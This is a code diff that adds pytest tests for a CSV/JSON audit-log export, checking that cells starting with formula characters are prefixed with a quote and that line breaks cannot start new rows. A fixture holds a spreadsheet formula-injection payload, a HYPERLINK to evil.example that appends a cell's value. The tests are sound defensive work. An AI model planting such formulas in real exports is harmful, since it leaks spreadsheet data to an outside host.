@@ -1,6 +1,7 @@
 """Reading the audit log (bot.audit_log.AuditLog) and `leadmover audit`: the latest entries of a workspace newest
 first; exports oldest first as a JSON array of objects with exactly the documented keys, or as CSV with those columns
-under a header row (detail as JSON text); by workspace and from a time; printed by the command line."""
+under a header row (detail as JSON text), where a cell a spreadsheet would take for a formula starts with `'`; by
+workspace and from a time; printed by the command line."""
 
 from __future__ import annotations
 
@@ -9,16 +10,20 @@ import io
 import json
 from datetime import datetime, timedelta
 from pathlib import Path
-from typing import Any
+from typing import Any, cast
 
 import pytest
 
 from app.cli import main
-from bot.audit_log import COLUMNS, AuditLog
+from bot.access import AccessService
+from bot.approvals import ApprovalService
+from bot.audit_log import COLUMNS, FORMULA_STARTS, AuditLog
+from bot.starts import StartQueue
 from storage import audit, migrate
 from storage.db import Database
 from storage.models import AuditRow
-from tests.factories import cli_database
+from tests.factories import awaiting_job, cli_database
+from tests.stand_ins import RecordingStarts, SlackStandIn
 
 KEYS = ["at", "team_id", "user_id", "action", "detail", "instantly_job_id", "outcome"]
 T0 = datetime(2026, 3, 1, 9, 0, 0)
@@ -145,6 +150,84 @@ def test_a_recorded_entry_is_exported(sqlite_db: Database) -> None:
     assert datetime.fromisoformat(row["at"].removesuffix("Z"))
 
 
+# --- a CSV safe to open ---------------------------------------------------------------------------------------------
+
+HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A1,"click")'
+
+
+def _reject(db: Database, reason: str) -> None:
+    """An approver rejects a big move with `reason`, through the real ApprovalService, which audits it."""
+    slack = SlackStandIn(team_id="T1")
+    access = AccessService(db=db, slack=lambda _team_id: slack, approvers=["UAPP"])
+    service = ApprovalService(
+        db=db, access=access, starts=cast(StartQueue, RecordingStarts()), owner="web-1", threshold=1000, hours=24.0
+    )
+    record = awaiting_job(db, user="U1")
+
+    decision = service.reject(team_id="T1", job_id=record.id, approver="UAPP", reason=reason)
+
+    assert decision.refusal is None
+
+
+def test_a_reject_reason_that_is_a_formula_is_exported_as_text_in_csv_and_unchanged_in_json(
+    sqlite_db: Database,
+) -> None:
+    _reject(sqlite_db, HYPERLINK)
+    log = AuditLog(db=sqlite_db)
+
+    [header, row] = _csv(log.export(fmt="csv"))
+
+    rejected = dict(zip(header, row, strict=True))
+    assert (rejected["action"], rejected["outcome"]) == ("reject", "'" + HYPERLINK)
+    assert [entry["outcome"] for entry in json.loads(log.export())] == [HYPERLINK]
+
+
+@pytest.mark.parametrize("start", FORMULA_STARTS, ids=["equals", "plus", "minus", "at", "tab", "carriage return"])
+def test_every_text_column_is_written_as_text_whatever_it_starts_with(sqlite_db: Database, start: str) -> None:
+    planted = {"team_id": "T", "user_id": "U", "action": "a", "instantly_job_id": "j", "outcome": "o"}
+    planted = {column: start + value for column, value in planted.items()}
+    _entry(
+        sqlite_db,
+        T0,
+        team=planted["team_id"],
+        user=planted["user_id"],
+        action=planted["action"],
+        job=planted["instantly_job_id"],
+        outcome=planted["outcome"],
+    )
+    log = AuditLog(db=sqlite_db)
+
+    [header, row] = _csv(log.export(fmt="csv"))
+
+    cells = dict(zip(header, row, strict=True))
+    assert {column: cells[column] for column in planted} == {column: "'" + value for column, value in planted.items()}
+    assert (cells["at"], cells["detail"]) == ("2026-03-01T09:00:00Z", "{}"), "the others are left alone"
+    exported = json.loads(log.export())[0]
+    assert {column: exported[column] for column in planted} == planted, "JSON is unchanged"
+
+
+def test_a_cell_with_a_formula_sign_further_in_or_a_quote_already_is_left_alone(sqlite_db: Database) -> None:
+    _entry(sqlite_db, T0, outcome="rejected: 2+2=4", detail={"reason": "=1+1"})
+    _entry(sqlite_db, T0, outcome="'=quoted already")
+    log = AuditLog(db=sqlite_db)
+
+    rows = _csv(log.export(fmt="csv"))[1:]
+
+    assert [row[KEYS.index("outcome")] for row in rows] == ["rejected: 2+2=4", "'=quoted already"]
+    assert rows[0][KEYS.index("detail")] == '{"reason": "=1+1"}', "a JSON object starts with {"
+
+
+@pytest.mark.parametrize("newline", ["\r", "\n", "\r\n"], ids=["carriage return", "line feed", "both"])
+def test_a_line_break_cannot_start_a_row_of_its_own(sqlite_db: Database, newline: str) -> None:
+    # Unquoted, the text after the break would be a new row, its first cell a formula nobody prefixed.
+    _reject(sqlite_db, f"no{newline}{HYPERLINK}")
+
+    rows = _csv(AuditLog(db=sqlite_db).export(fmt="csv"))
+
+    assert len(rows) == 2
+    assert rows[1][KEYS.index("outcome")] == f"no{newline}{HYPERLINK}"
+
+
 # --- leadmover audit ----------------------------------------------------------------------------------------------
 
 
@@ -214,3 +297,18 @@ def test_a_since_that_is_not_a_date_is_refused(database_file: str, capsys: pytes
 
     assert exit_.value.code == 2
     assert "is not a date" in capsys.readouterr().err
+
+
+def test_the_audit_command_prints_a_planted_formula_as_text(
+    database_file: str, capsys: pytest.CaptureFixture[str]
+) -> None:
+    db = Database(database_file)
+    try:
+        _reject(db, HYPERLINK)
+    finally:
+        db.dispose()
+
+    assert main(["audit", "--format", "csv"]) == 0
+
+    rows = [row for row in _csv(capsys.readouterr().out) if row]
+    assert rows[-1][KEYS.index("outcome")] == "'" + HYPERLINK
